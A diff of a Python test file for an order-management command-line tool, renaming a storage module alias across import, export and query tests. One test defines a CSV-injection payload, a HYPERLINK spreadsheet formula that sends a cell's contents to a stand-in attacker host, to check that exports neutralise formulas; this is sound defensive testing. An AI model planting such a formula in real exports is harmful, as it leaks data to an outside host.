@@ -14,7 +14,7 @@ from typer.testing import CliRunner
 from orderhub.cli import app
 from orderhub.domain.queries import OrderQuery
 from orderhub.storage import migrate, stores
-from orderhub.storage import orders as repo
+from orderhub.storage import orders as order_storage
 from orderhub.storage.database import Database
 from tests.helpers import sample_order
 
@@ -42,7 +42,7 @@ def new_store(db: Database, name: str = "S") -> int:
 
 def count(db: Database, store_id: int) -> int:
     with db.read() as conn:
-        return repo.count_orders(conn, store_id, OrderQuery())
+        return order_storage.count_orders(conn, store_id, OrderQuery())
 
 
 def write_jsonl(path: Path, orders: list[object], extra_lines: tuple[bytes, ...] = ()) -> Path:
@@ -84,8 +84,8 @@ def test_imported_orders_match_the_api_rules(db: Database, tmp_path: Path) -> No
     path = write_jsonl(tmp_path / "one.jsonl", [sample_order(source_id="X1", tax_total="1.20")])
     runner.invoke(app, ["orders", "import", str(store_id), str(path), "--quiet"])
     with db.read() as conn:
-        ids = repo.search_order_ids(conn, store_id, OrderQuery(), limit=5, offset=0)
-        order = repo.get_order(conn, store_id, ids[0])
+        ids = order_storage.search_order_ids(conn, store_id, OrderQuery(), limit=5, offset=0)
+        order = order_storage.get_order(conn, store_id, ids[0])
     # 2 x 19.99 + 7.25 = 47.23; + 5.5 + 0.5 + 1.2
     assert str(order.product_total.normalize()) == "47.23"
     assert str(order.order_total.normalize()) == "54.43"
@@ -112,8 +112,8 @@ def test_export_csv_round_trips_into_another_store(db: Database, tmp_path: Path)
     result = runner.invoke(app, ["orders", "import", str(target), str(out), "--quiet"])
     assert "imported 5, skipped 0" in result.output, result.output
     with db.read() as conn:
-        ids = repo.search_order_ids(conn, target, OrderQuery(), limit=10, offset=0)
-        copied = repo.load_orders(conn, target, ids, with_history=False)
+        ids = order_storage.search_order_ids(conn, target, OrderQuery(), limit=10, offset=0)
+        copied = order_storage.load_orders(conn, target, ids, with_history=False)
     assert sorted(o.source_id or "" for o in copied) == [f"R{i}" for i in range(5)]
     assert all(len(o.items) == 2 for o in copied)
 
@@ -150,7 +150,7 @@ def test_folder_option_and_clear_errors(db: Database, tmp_path: Path) -> None:
     listed = runner.invoke(app, ["orders", "list", str(store_id), "--folder-name", "Paid"])
     assert "Paid" in listed.output and "P1" in listed.output
     with db.read() as conn:
-        order_id = repo.find_by_source(conn, store_id, "API", "P1")
+        order_id = order_storage.find_by_source(conn, store_id, "API", "P1")
     shown = runner.invoke(app, ["orders", "show", str(store_id), str(order_id)])
     assert shown.exit_code == 0 and '"source_id": "P1"' in shown.output
     assert '"note": "Order imported"' in shown.output
@@ -176,7 +176,7 @@ def test_imported_dates_are_stored_as_the_api_stores_them(db: Database, tmp_path
     moment = datetime(2024, 6, 1, 10, 0, 0)
     for query in (OrderQuery(added_from=moment), OrderQuery(added_to=moment)):
         with db.read() as conn:
-            assert repo.count_orders(conn, store_id, query) == 1, query
+            assert order_storage.count_orders(conn, store_id, query) == 1, query
 
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -218,8 +218,8 @@ def test_export_csv_neutralises_formulas_and_round_trips(db: Database, tmp_path:
     result = runner.invoke(app, ["orders", "import", str(target), str(out), "--quiet"])
     assert "imported 1, skipped 0" in result.output, result.output
     with db.read() as conn:
-        ids = repo.search_order_ids(conn, target, OrderQuery(), limit=10, offset=0)
-        (copied,) = repo.load_orders(conn, target, ids, with_history=False)
+        ids = order_storage.search_order_ids(conn, target, OrderQuery(), limit=10, offset=0)
+        (copied,) = order_storage.load_orders(conn, target, ids, with_history=False)
     assert copied.email == HOSTILE_EMAIL
     assert copied.shipping["first_name"] == HOSTILE_NAME
     assert copied.shipping["company"] == "-2+3"
